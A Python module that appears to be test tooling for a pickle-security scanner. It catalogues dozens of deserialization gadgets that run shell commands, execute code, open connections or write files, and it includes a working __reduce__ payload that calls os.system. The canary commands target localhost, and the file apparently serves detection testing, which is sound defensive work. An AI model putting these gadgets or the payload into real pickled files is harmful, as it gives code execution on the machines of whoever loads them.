"""Callables that a hostile pickle has called for it, by the name under which it asks for them."""

from __future__ import annotations

import marshal
import pickle
from collections.abc import Iterator

from msgspec import Struct

from scripts.attacks.canary import Canary


class Gadget(Struct, frozen=True):
    """What is called when the pickle is loaded. library: what must be installed for it, "" for Python alone."""

    module: str
    name: str
    arguments: tuple[object, ...]
    library: str = ""

    @property
    def label(self) -> str:
        return f"{self.module}.{self.name}"


def gadgets(canary: Canary) -> Iterator[Gadget]:
    """Ways to run a command, to run code, to open a connection, to touch a file."""
    for module, name in SHELLS:
        yield Gadget(module, name, (canary.command(f"{module}.{name}"),))
    for module, name in PROGRAMS:
        yield Gadget(module, name, (["sh", "-c", canary.command(f"{module}.{name}")],))
    for module, name, library in CODE:
        yield Gadget(module, name, (canary.code(f"{module}.{name}"),), library)
    for module, name in CONNECTIONS:
        yield Gadget(module, name, (("127.0.0.1", canary.port),))
    yield from special(canary)


SHELLS = (
    *(("os", "system"), ("posix", "system"), ("nt", "system"), ("os", "popen"), ("subprocess", "getoutput")),
    *(("subprocess", "getstatusoutput"), ("asyncio.subprocess", "create_subprocess_shell")),
    *(("numpy.f2py.os", "system"), ("joblib.parallel.os", "system"), ("sklearn.utils.os", "system")),
    *(("pandas.io.common.os", "system"), ("numpy.testing._private.utils.os", "system"), ("pip._internal.main", "main")),
    *(("shutil.os", "system"), ("__builtin__", "os.system"), ("os", "path.os.system"), ("sklearn.base", "os.system")),
)
PROGRAMS = (
    *(("subprocess", "Popen"), ("subprocess", "run"), ("subprocess", "call"), ("subprocess", "check_output")),
    *(("subprocess", "check_call"), ("psutil", "Popen"), ("joblib.externals.loky.backend.popen_loky_posix", "Popen")),
    *(("joblib.parallel.subprocess", "Popen"), ("sklearn.utils._testing", "check_output"), ("pty", "spawn")),
    *(("asyncio", "create_subprocess_exec"), ("xgboost.tracker.subprocess", "Popen"), ("platform", "subprocess.Popen")),
    *(("numpy.distutils.exec_command", "exec_command"), ("multiprocessing.util", "spawnv_passfds")),
)
CODE = (
    *(("builtins", "exec", ""), ("builtins", "eval", ""), ("__builtin__", "eval", ""), ("timeit", "timeit", "")),
    *(("cProfile", "run", ""), ("profile", "run", ""), ("pdb", "run", ""), ("bdb", "run", ""), ("trace", "run", "")),
    *(("code", "interact", ""), ("runpy", "run_path", ""), ("builtins", "compile", ""), ("idlelib.run", "main", "")),
    *(
        ("numpy.testing", "rundocs", "numpy"),
        ("pandas", "eval", "pandas"),
        ("pandas.core.computation.eval", "eval", "pandas"),
    ),
    *(("numpy.testing._private.utils", "runstring", "numpy"), ("sklearn.utils._testing", "exec", "scikit-learn")),
    *(
        ("torch.utils.cpp_extension", "load_inline", "torch"),
        ("torch.hub", "load", "torch"),
        ("torch", "load", "torch"),
    ),
    *(
        ("scipy.io", "loadmat", "scipy"),
        ("sympy", "sympify", ""),
        ("numexpr", "evaluate", ""),
        ("dill", "loads", "dill"),
    ),
)
CONNECTIONS = (
    *(("socket", "create_connection"), ("_socket", "socket.connect"), ("asyncio", "open_connection")),
    *(("http.client", "HTTPConnection"), ("smtplib", "SMTP"), ("multiprocessing.connection", "Client")),
)


def special(canary: Canary) -> Iterator[Gadget]:
    """Those whose arguments are of their own kind."""
    url = f"http://127.0.0.1:{canary.port}/"
    inner = pickle.dumps(_Reducing(canary.command("nested")))
    code = marshal.dumps(compile(canary.code("marshal"), "m", "exec"))
    yield Gadget("pickle", "loads", (inner,))
    yield Gadget("_pickle", "loads", (inner,))
    yield Gadget("cloudpickle", "loads", (inner,), "cloudpickle")
    yield Gadget("marshal", "loads", (code,))
    yield Gadget("builtins", "__import__", ("os",))
    yield Gadget("importlib", "import_module", ("antigravity",))
    yield Gadget("builtins", "getattr", ("os", "system"))
    yield Gadget("builtins", "open", (str(canary.folder / "open"), "w"))
    yield Gadget("io", "open", (str(canary.folder / "io.open"), "w"))
    yield Gadget("pathlib", "Path.write_text", (str(canary.folder / "Path.write_text"),))
    yield Gadget("shutil", "rmtree", (str(canary.folder / "nothing"),))
    yield Gadget("os", "mkdir", (str(canary.folder / "os.mkdir"),))
    yield Gadget("os", "execv", ("/bin/sh", ["sh", "-c", canary.command("os.execv")]))
    yield Gadget("os", "posix_spawn", ("/bin/sh", ["sh", "-c", canary.command("os.posix_spawn")], {}))
    yield Gadget("urllib.request", "urlopen", (url,))
    yield Gadget("urllib.request", "urlretrieve", (url, str(canary.folder / "urlretrieve")))
    yield Gadget("webbrowser", "open", (url,))
    yield Gadget("ctypes", "CDLL", ("libc.so.6",))
    yield Gadget("functools", "partial", (print, "x"))
    yield Gadget("operator", "attrgetter", ("__globals__",))
    yield Gadget("operator", "methodcaller", ("system", canary.command("methodcaller")))
    yield Gadget("types", "FunctionType", (None, {}))
    yield Gadget("sys", "setprofile", (print,))
    yield Gadget("site", "addsitedir", (str(canary.folder),))
    yield Gadget("logging.config", "listen", (canary.port,))
    yield Gadget("sqlite3", "connect", (str(canary.folder / "sqlite3"),))
    yield Gadget("zipimport", "zipimporter", (str(canary.folder / "x.zip"),))
    yield Gadget("tempfile", "mkstemp", ("", "", str(canary.folder)))
    yield Gadget("evilpkg", "Model", ())
    yield Gadget("evil_internal_models.secret", "Model", ())
    yield Gadget("builtins", "object.__subclasses__", ())
    yield Gadget("sklearn", "__builtins__", ())
    yield Gadget("numpy", "load", (str(canary.folder / "x.npy"), None, True), "numpy")
    yield Gadget("joblib", "load", (str(canary.folder / "x.joblib"),), "joblib")
    yield Gadget("pandas", "read_pickle", (url,), "pandas")
    yield Gadget("sklearn.datasets", "fetch_openml", ("iris",), "scikit-learn")


class _Reducing:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self._command,)
